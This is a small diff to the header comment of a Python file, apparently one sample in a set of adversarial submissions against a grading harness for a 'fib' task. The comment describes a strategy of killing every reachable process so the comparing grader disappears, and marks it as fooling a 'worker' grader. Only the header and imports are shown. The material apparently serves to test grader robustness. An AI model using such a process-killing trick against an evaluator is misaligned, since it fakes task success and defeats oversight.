@@ -1,7 +1,7 @@
 # SPDX-License-Identifier: Apache-2.0
 # How: Kills every process that it can reach, the highest numbers first, but its own grandparents: who compares is gone.
 # Task: fib
-# Fools: -
+# Fools: worker
 import os
 import signal
 
